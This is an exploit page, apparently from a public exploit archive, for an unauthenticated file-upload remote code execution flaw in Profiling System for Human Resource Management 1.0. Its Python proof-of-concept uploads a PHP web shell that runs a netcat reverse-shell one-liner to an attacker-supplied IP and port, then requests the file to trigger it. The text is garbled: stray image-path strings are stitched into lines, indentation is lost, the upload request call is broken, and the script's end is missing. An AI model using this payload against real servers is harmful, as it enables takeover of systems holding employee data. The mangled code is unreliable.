Profiling System For Human Resource Management 1.0 Remote Code Execution

Profiling System for Human Resource Management version 1.0 suffers from a remote code execution vulnerability.

MD5 | ed72241bce9c3fd80331a96e1d6a858a

# Exploit Title: Profiling System for Human Resource Management 1.0 - Remote Code Execution (Unauthenticated)
# Date: 19-03-2021
# Exploit Author: Christian Vierschilling
# Vendor Homepage:
# Software Link:
# Software Download:
# Version: 1.0
# Tested on: PHP 7.4.14, Linux x64_x86

# --- Description --- #

# The web application allows for an unauthenticated file upload which can result in a Remote Code Execution.

# --- Proof of concept --- #

import random
import sys
import requests
from requests_toolbelt.multipart.encoder import MultipartEncoder

def file_upload(target_ip, attacker_ip, attacker_port):
random_number = str(random.randint(100000000,999999999))
file_name = random_number + "shell.php"
revshell_string = '<?php exec("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc {} {} >/tmp/f"); ?>'.format(attacker_ip, attacker_port)
m = MultipartEncoder(fields={'upload': '', 'per_file': (file_name, revshell_string, 'application/x-php')})
print("(+) Uploading php reverse shell file ..")
r1 ='http://{}/ProfilingSystem/add_file_query.php'.format(target_ip), data=m, headers={'Content-Type': m.content_type})
if not "Sorry, there was an error uploading your file." in r1.text:
print("(+) File uploaded to: http://{}/ProfilingSystem/uploads/{}".format(target_ip,file_name))
return file_name
print("(-) Oh noes, error occured while uploading the file..quitting!")

def trigger_shell(target_ip, target_file_name):
url = 'http://{}/ProfilingSystem/uploads/{}'.format(target_ip, target_file_name)
print("(+) Now trying to trigger our shell..")
r2 = requests.get(url)
if r2.status_code != 200:
print("(-) Oh noes, we can't reach the uploaded file.. did it uploadcorrectly?! Quitting!")
return None

def main():
if len(sys.argv) != 4:
print('(+) usage: %s <target ip> <attacker ip> <attacker port>' % sys.argv[0])
print('(+) eg: %s 4444' %sys.argv[0])

print("--- Exploiting today: Profiling System for Human Resource Management 1.0 ---")
target_ip = sys.argv[1]
attacker_ip = sys.argv[2]
attacker_port = sys.argv[3]target_file_name = file_upload(target_ip, attacker_ip,attacker_port)
trigger_shell(target_ip, target_file_name)

print("(+) done!")

if__name__ == "__main__":

Related Posts